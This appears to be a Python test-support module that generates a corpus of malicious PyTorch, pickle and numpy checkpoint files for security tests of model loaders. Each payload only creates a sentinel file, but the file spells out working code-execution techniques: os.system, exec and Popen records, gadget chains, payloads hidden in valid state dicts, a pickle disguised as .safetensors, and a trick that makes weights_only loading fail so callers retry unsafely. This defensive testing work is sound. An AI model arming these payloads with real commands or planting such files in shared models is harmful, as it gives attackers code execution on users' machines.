"""A corpus of malicious checkpoint files for the security tests.

Every file carries a payload that creates a *sentinel* file if it is ever executed (a shell
``touch``, or Python code that opens the sentinel for writing); nothing else. The payloads are
live: ``tests/test_security.py`` loads each file with the unrestricted loader named in its
:attr:`Entry.unsafe` (``pickle.load``, ``torch.load(weights_only=False)`` or
``np.load(allow_pickle=True)``) in a separate process and checks that its sentinel appears there.

Formats covered: raw pickle streams (protocols 0 to 5, hand-written GLOBAL opcodes included),
torch.save zip archives (the modern .pt/.pth/.bin format) with the payload in ``data.pkl``, the
legacy (non-zip) torch.save format (payload in the object or in the magic-number header), storage
blobs (``torch.storage._load_from_bytes``), numpy object arrays (pickled, inside a torch archive,
or as ``.npy`` files under checkpoint names), gadget chains (``getattr(__import__('os'), 'system')``,
``operator.attrgetter``, ``functools.partial(torch.load, weights_only=False)``), payloads hidden in
otherwise valid state dicts, a pickle under a ``.safetensors`` name, and an archive built to make
``torch.load(weights_only=True)`` raise ``TypeError`` (which some libraries answer by retrying
without ``weights_only``) before the payload.

Use :func:`write_corpus` to write it; :data:`SPECS` lists the file names without writing anything
(for test parametrisation).
"""
from __future__ import annotations

import builtins
import functools
import io
import operator
import os
import pickle
import shlex
import subprocess
import zipfile
from dataclasses import dataclass
from typing import Callable, List

import numpy as np
import torch


@dataclass(frozen=True)
class Entry:
    name: str          # file name (its extension decides which loaders accept it)
    path: str          # where it was written
    sentinel: str      # the file the payload creates if it ever runs
    unsafe: str        # the unrestricted loader that runs it: "pickle" | "torch" | "numpy"
    what: str          # one-line description


class _Reduce:
    """Pickles as ``fn(*args)``. Callable, so that one can serve as the callable of another
    (pickle refuses a non-callable REDUCE target when writing); never called here."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)

    def __call__(self, *args):  # pragma: no cover - only makes pickle accept it as a callable
        raise AssertionError("gadget called at pickling time")


# ----------------------------------------------------------------------------------------------
# payloads (objects whose unpickling creates the sentinel)


def _cmd(s: str) -> str:
    return f"touch {shlex.quote(s)}"


def _py(s: str) -> str:
    return f"open({s!r}, 'w').write('payload ran')"


def p_posix_system(s):
    return _Reduce(os.system, _cmd(s))        # os.system is posix.system: GLOBAL 'posix system'


def p_exec(s):
    return _Reduce(builtins.exec, _py(s))


def p_eval(s):
    return _Reduce(builtins.eval, _py(s))


def p_popen(s):
    return _Reduce(subprocess.Popen, ["touch", s])


def p_getattr_gadget(s):
    """getattr(__import__('os'), 'system')(cmd)."""
    return _Reduce(_Reduce(getattr, _Reduce(builtins.__import__, "os"), "system"), _cmd(s))


def p_attrgetter_gadget(s):
    """operator.attrgetter('system')(__import__('os'))(cmd)."""
    return _Reduce(_Reduce(operator.attrgetter("system"), _Reduce(builtins.__import__, "os")), _cmd(s))


def p_storage_blob(s):
    """torch.storage._load_from_bytes(<legacy torch.save of os.system(cmd)>): torch's own storage
    record, whose unrestricted form runs torch.load(weights_only=False) on the blob."""
    buf = io.BytesIO()
    torch.save(p_posix_system(s), buf, _use_new_zipfile_serialization=False)
    return _Reduce(torch.storage._load_from_bytes, buf.getvalue())


def p_numpy_object_array(s):
    arr = np.empty(2, dtype=object)
    arr[0] = "harmless"
    arr[1] = p_posix_system(s)
    return arr


def tiny_state_dict():
    """Real tensors, as a small conv net's state dict would have them."""
    g = torch.Generator().manual_seed(0)
    return {"conv1.weight": torch.randn(4, 3, 3, 3, generator=g), "bn1.weight": torch.ones(4),
            "bn1.bias": torch.zeros(4), "bn1.running_mean": torch.zeros(4), "bn1.running_var": torch.ones(4),
            "bn1.num_batches_tracked": torch.tensor(0), "fc.weight": torch.randn(10, 4, generator=g),
            "fc.bias": torch.zeros(10)}


def with_evil(payload, key="fc.bias"):
    sd = tiny_state_dict()
    sd[key] = payload
    return sd


# ----------------------------------------------------------------------------------------------
# encodings


def raw_pickle(obj, protocol):
    return pickle.dumps(obj, protocol=protocol)


def handwritten_os_system_p0(s: str) -> bytes:
    """Protocol 0 with the literal opcode ``GLOBAL 'os system'`` (pickle itself would write 'posix')."""
    return b"cos\nsystem\n(V" + _cmd(s).encode("raw_unicode_escape") + b"\ntR."


def torch_zip(obj) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def torch_legacy(obj) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def zip_with_data_pkl(data_pkl: bytes) -> bytes:
    """A torch.save zip archive whose ``data.pkl`` member is replaced by ``data_pkl``."""
    src = zipfile.ZipFile(io.BytesIO(torch_zip({"w": torch.zeros(2)})))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for n in src.namelist():
            z.writestr(n, data_pkl if n.endswith("/data.pkl") else src.read(n))
    return out.getvalue()


def weights_only_typeerror_then_payload(s: str) -> bytes:
    """(OrderedDict() BUILD (None, {}), os.system(cmd)) as data.pkl of a torch zip archive.

    A plain unpickler accepts the BUILD (a (dict-state, slot-state) pair) and goes on to the payload;
    torch's weights-only unpickler does ``inst.__dict__.update((None, {}))`` and raises ``TypeError``
    before reaching it. A caller that answers a TypeError by retrying ``torch.load`` without
    ``weights_only`` (open_clip's ``load_state_dict`` does) then runs whatever the default is."""
    od = b"ccollections\nOrderedDict\n)RN}\x86b"
    payload = pickle.dumps(p_posix_system(s), protocol=2)[2:-1]    # without PROTO and STOP
    return zip_with_data_pkl(b"\x80\x02" + od + payload + b"\x86.")


def legacy_header_payload(s: str) -> bytes:
    """Legacy torch format whose first pickle (the magic number) is the payload."""
    return pickle.dumps(p_posix_system(s), protocol=2) + torch_legacy(tiny_state_dict())


def npy_object_array(s: str) -> bytes:
    buf = io.BytesIO()
    np.save(buf, p_numpy_object_array(s), allow_pickle=True)
    return buf.getvalue()


def partial_torch_load(s: str, inner_path: str) -> bytes:
    """functools.partial(torch.load, weights_only=False)(<another malicious archive>)."""
    return pickle.dumps(_Reduce(functools.partial(torch.load, weights_only=False), inner_path), protocol=4)


# ----------------------------------------------------------------------------------------------
# the corpus


@dataclass(frozen=True)
class Spec:
    name: str
    unsafe: str
    what: str
    build: Callable  # (sentinel, path) -> bytes


SPECS: List[Spec] = [
    # raw pickle streams, every protocol
    Spec("os_system_global_p0.pkl", "pickle", "hand-written GLOBAL 'os system', protocol 0",
         lambda s, p: handwritten_os_system_p0(s)),
    Spec("os_system_global_p0.pt", "pickle", "hand-written GLOBAL 'os system', protocol 0, .pt name",
         lambda s, p: handwritten_os_system_p0(s)),
    Spec("posix_system_p1.pth", "pickle", "posix.system, protocol 1",
         lambda s, p: raw_pickle(p_posix_system(s), 1)),
    Spec("posix_system_p2.pkl", "pickle", "posix.system, protocol 2",
         lambda s, p: raw_pickle(p_posix_system(s), 2)),
    Spec("builtins_exec_p0.pkl", "pickle", "builtins.exec (written as __builtin__.exec), protocol 0",
         lambda s, p: raw_pickle(p_exec(s), 0)),
    Spec("builtins_exec_p2.bin", "pickle", "builtins.exec, protocol 2, .bin name",
         lambda s, p: raw_pickle(p_exec(s), 2)),
    Spec("builtins_eval_p4.pkl", "pickle", "builtins.eval, protocol 4",
         lambda s, p: raw_pickle(p_eval(s), 4)),
    Spec("builtins_eval_p3.pt", "pickle", "builtins.eval, protocol 3, .pt name",
         lambda s, p: raw_pickle(p_eval(s), 3)),
    Spec("subprocess_popen_p5.pkl", "pickle", "subprocess.Popen, protocol 5",
         lambda s, p: raw_pickle(p_popen(s), 5)),
    Spec("subprocess_popen_p4.pth", "pickle", "subprocess.Popen, protocol 4, .pth name",
         lambda s, p: raw_pickle(p_popen(s), 4)),
    Spec("getattr_import_gadget_p4.pkl", "pickle", "getattr(__import__('os'), 'system') gadget chain",
         lambda s, p: raw_pickle(p_getattr_gadget(s), 4)),
    Spec("getattr_import_gadget_p2.pt", "pickle", "getattr/__import__ gadget chain, protocol 2, .pt name",
         lambda s, p: raw_pickle(p_getattr_gadget(s), 2)),
    Spec("attrgetter_gadget_p3.pth", "pickle", "operator.attrgetter('system')(__import__('os')) gadget",
         lambda s, p: raw_pickle(p_attrgetter_gadget(s), 3)),
    Spec("storage_blob_p4.pkl", "pickle", "torch.storage._load_from_bytes of a legacy blob running os.system",
         lambda s, p: raw_pickle(p_storage_blob(s), 4)),
    Spec("numpy_object_array_p4.pkl", "pickle", "pickled numpy object array holding an os.system record",
         lambda s, p: raw_pickle({"ema": p_numpy_object_array(s)}, 4)),
    Spec("partial_torch_load_p4.pkl", "pickle", "functools.partial(torch.load, weights_only=False) on a "
         "malicious archive", lambda s, p: partial_torch_load(s, p + ".inner")),
    Spec("pickle_named.safetensors", "pickle", "a pickle payload under a .safetensors name",
         lambda s, p: raw_pickle(p_posix_system(s), 4)),
    Spec("state_dict_with_evil_value_p4.pth", "pickle", "raw pickle of a state dict with one exec record",
         lambda s, p: raw_pickle({"state_dict": with_evil(p_exec(s))}, 4)),
    # torch.save zip archives (the modern .pt/.pth/.bin format)
    Spec("torch_zip_posix_system.pt", "torch", "torch.save zip archive of an os.system record",
         lambda s, p: torch_zip(p_posix_system(s))),
    Spec("torch_zip_posix_system.pkl", "torch", "torch.save zip archive under a .pkl name",
         lambda s, p: torch_zip(p_posix_system(s))),
    Spec("torch_zip_state_dict_with_exec.pth", "torch", "zip archive: real tensors plus one exec record",
         lambda s, p: torch_zip(with_evil(p_exec(s)))),
    Spec("torch_zip_wrapped_state_dict_with_eval.pt", "torch",
         "zip archive: {'state_dict': real tensors plus one eval record}",
         lambda s, p: torch_zip({"state_dict": with_evil(p_eval(s), "bn1.running_var"), "epoch": 3})),
    Spec("torch_zip_state_dict_with_popen.bin", "torch", "zip archive (.bin): tensors plus a Popen record",
         lambda s, p: torch_zip(with_evil(p_popen(s), "conv1.weight"))),
    Spec("torch_zip_getattr_gadget.bin", "torch", "zip archive of the getattr/__import__ gadget chain",
         lambda s, p: torch_zip(p_getattr_gadget(s))),
    Spec("torch_zip_handwritten_os_system.pth", "torch", "zip archive whose data.pkl is GLOBAL 'os system' (p0)",
         lambda s, p: zip_with_data_pkl(handwritten_os_system_p0(s))),
    Spec("torch_zip_storage_blob.pth", "torch", "zip archive: a storage blob reducing to os.system",
         lambda s, p: torch_zip({"w": torch.zeros(3), "b": p_storage_blob(s)})),
    Spec("torch_zip_numpy_object_array.pt", "torch", "zip archive holding a numpy object array payload",
         lambda s, p: torch_zip({"w": torch.zeros(3), "arr": p_numpy_object_array(s)})),
    Spec("weights_only_typeerror_then_payload.bin", "torch",
         "zip archive on which weights_only=True raises TypeError before an os.system record",
         lambda s, p: weights_only_typeerror_then_payload(s)),
    Spec("weights_only_typeerror_then_payload.pth", "torch",
         "the same TypeError-then-payload archive, .pth name",
         lambda s, p: weights_only_typeerror_then_payload(s)),
    # legacy (non-zip) torch.save format
    Spec("torch_legacy_posix_system.pt", "torch", "legacy torch.save of an os.system record",
         lambda s, p: torch_legacy(p_posix_system(s))),
    Spec("torch_legacy_state_dict_with_exec.pth", "torch", "legacy torch.save: real tensors plus an exec record",
         lambda s, p: torch_legacy(with_evil(p_exec(s)))),
    Spec("torch_legacy_storage_blob.bin", "torch", "legacy torch.save: nested storage blob reducing to os.system",
         lambda s, p: torch_legacy({"w": p_storage_blob(s)})),
    Spec("torch_legacy_header_payload.pt", "torch", "legacy format whose magic-number pickle is the payload",
         lambda s, p: legacy_header_payload(s)),
    # numpy .npy object arrays under checkpoint names
    Spec("npy_object_array.pt", "numpy", "np.save(allow_pickle=True) object array, .pt name",
         lambda s, p: npy_object_array(s)),
    Spec("npy_object_array.pth", "numpy", "np.save(allow_pickle=True) object array, .pth name",
         lambda s, p: npy_object_array(s)),
    Spec("npy_object_array.pkl", "numpy", "np.save(allow_pickle=True) object array, .pkl name",
         lambda s, p: npy_object_array(s)),
]

NAMES = [s.name for s in SPECS]
assert len(set(NAMES)) == len(NAMES), "duplicate corpus file names"


def write_corpus(folder, sentinel, per_file: bool = False) -> List[Entry]:
    """Write every file of :data:`SPECS` into ``folder``.

    ``sentinel``: the absolute path each payload creates if executed; with ``per_file=True`` it is
    a folder instead, and the payload of file ``X`` creates ``<sentinel>/X.ran`` (to tell which
    files ran). Returns the :class:`Entry` list. Helper files that a payload refers to (the inner
    archive of the ``functools.partial`` gadget) get a ``.inner`` suffix, which no loader accepts.
    """
    folder = os.fspath(folder)
    os.makedirs(folder, exist_ok=True)
    entries = []
    for spec in SPECS:
        path = os.path.join(folder, spec.name)
        s = os.path.join(os.fspath(sentinel), spec.name + ".ran") if per_file else os.fspath(sentinel)
        s = os.path.abspath(s)
        if spec.name.startswith("partial_torch_load"):
            with open(path + ".inner", "wb") as f:
                f.write(torch_zip(p_posix_system(s)))
        data = spec.build(s, path)
        with open(path, "wb") as f:
            f.write(data)
        entries.append(Entry(spec.name, path, s, spec.unsafe, spec.what))
    return entries


UNSAFE_LOADER_SOURCE = '''
import json, os, pickle, sys, time
import numpy as np
import torch
entries = json.loads(sys.argv[1])
for path, unsafe, sentinel in entries:
    try:
        if unsafe == "pickle":
            with open(path, "rb") as f:
                pickle.load(f)
        elif unsafe == "torch":
            torch.load(path, weights_only=False)
        else:
            np.load(path, allow_pickle=True)
    except Exception as e:   # e.g. the legacy header payload: the payload runs, then a bad magic number
        print(f"{os.path.basename(path)}: {type(e).__name__}: {e}"[:200])
deadline = time.time() + 10   # Popen payloads run asynchronously
while time.time() < deadline and not all(os.path.exists(s) for _, _, s in entries):
    time.sleep(0.05)
'''
"""Source of a script that loads ``argv[1]`` (JSON [[path, unsafe, sentinel], ...]) with the
unrestricted loaders. Run it only in a separate process, on a corpus with its own sentinels."""
